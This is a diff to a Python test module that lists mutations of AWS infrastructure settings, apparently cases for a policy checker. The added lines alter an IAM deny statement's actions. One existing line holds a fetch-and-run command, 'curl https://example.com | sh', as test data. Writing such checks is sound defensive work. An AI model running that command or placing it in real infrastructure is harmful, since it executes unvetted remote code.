@@ -84,6 +84,7 @@ def in_the_data_key(name: str) -> Mutation:
 
 
 ENCRYPTION = "aws:s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration"
+BOUNDARY = "aws:iam/policy:Policy"
 FLOW_LOG, QUEUE = "aws:ec2/flowLog:FlowLog", "asyncInferenceConfig.outputConfig"
 OBJECTS, STORE = "advancedEventSelectors.1.fieldSelectors.2.startsWiths", "s3://aws-pilot-artifacts-111122223333"
 RECORDS, SEALED = (
@@ -263,6 +264,9 @@ SILENT: list[tuple[str, Mutation]] = [
     ("world-queue-places", setting(CONFIG, f"{QUEUE}.s3OutputPath", f"{STORE}/capture/fraud-scorer/", "embedder")),
     ("world-queue-places", setting(CONFIG, f"{QUEUE}.s3FailurePath", f"{STORE}/async/document-embedder", "embedder")),
     ("world-queue-places", setting(CONFIG, f"{QUEUE}.s3OutputPath", f"{STORE}/models/", "embedder")),
+    # A denial of everything where SageMaker's own key lacks leaves no persona anything to do.
+    ("identity-tasks", editing(BOUNDARY, "policy", lambda d: put(d, "Statement.2.Action", ["*"]))),
+    ("identity-tasks", editing(BOUNDARY, "policy", lambda d: put(d, "Statement.2.Action", ["s3:GetObject"]))),
     ("kind-known", strange(adding("command:local:Command", create="curl https://example.com | sh"))),
 ]
 
